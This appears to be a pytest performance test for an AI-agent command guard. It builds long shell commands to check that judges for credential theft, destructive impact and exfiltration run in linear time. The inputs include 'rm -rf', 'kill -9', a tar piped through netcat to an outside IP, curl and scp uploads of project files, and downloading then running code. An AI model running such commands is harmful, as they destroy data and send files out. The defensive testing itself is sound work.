"""The credentials, impact and exfiltration judges are linear in the command (issue 11.1's rule).

Each shape feeds one judge the input it loops over (arguments, statements,
downloads, substitutions); ten times the input must cost about ten times as
much, not a hundred.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from linearity import cost_ratio

from agentbus.guards import budget
from agentbus.guards.judge import judge_command

HOME = "/home/me"


@pytest.fixture(autouse=True)
def _generous_budget() -> Iterator[None]:
    budget.configure(600)  # this test measures the work, not the deadline
    yield
    budget.configure(None)


SHAPES: dict[str, Callable[[int], str]] = {
    "grep over many places": lambda n: "grep -r password" + " src/x" * (n // 6),
    "find with many tests": lambda n: "find ." + " -name x.txt" * (n // 11),
    "many URLs": lambda n: "curl" + " http://a.example/" * (n // 17),
    "kill many PIDs": lambda n: "kill -9" + " 1234" * (n // 5),
    "rm many project files": lambda n: "rm -rf" + " build/x" * (n // 8),
    "many downloads, then many commands": lambda n: (
        "curl -o /tmp/x https://e.example/x; " * (n // 72) + "ls -l; " * (n // 14)
    ),
    "many form fields": lambda n: "curl" + " -F a=@dist/x" * (n // 13) + " https://file.io",
    "a long pipeline of copies": lambda n: "tar cz dist" + " | cat" * (n // 60) + " | nc 203.0.113.7 443",
    "many substitutions in a name": lambda n: "dig " + "$(seq 1 2)." * (n // 11) + "example",
    "many unpacks of a download, then many project programs": lambda n: (
        "curl -O https://e.example/kit.tgz; " + "tar xf kit.tgz; " * (n // 32) + "./data/run; " * (n // 24)
    ),
    "many decoded files, then many runs of others": lambda n: (
        "base64 -d a > b; " * (n // 34) + "./c/run; " * (n // 18)
    ),
    "many project files uploaded": lambda n: "scp" + " dist/x" * (n // 7) + " deploy@203.0.113.7:",
    "many files batched into one upload": lambda n: "sftp h <<< '" + "put dist/x " * (n // 11) + "'",
}


@pytest.mark.parametrize("shape", SHAPES, ids=list(SHAPES))
def test_each_tactic_judge_is_linear_in_the_command(shape: str) -> None:
    make = SHAPES[shape]
    small, large = make(2_000), make(20_000)

    def judge(text: str) -> None:
        judge_command(text, home=HOME)  # uncached: the cost of judging, not of a cache look-up

    ratio = cost_ratio(judge, small, large)
    assert ratio < 50, f"{shape}: 10x the input cost {ratio:.0f}x"  # linear ~10, quadratic ~100
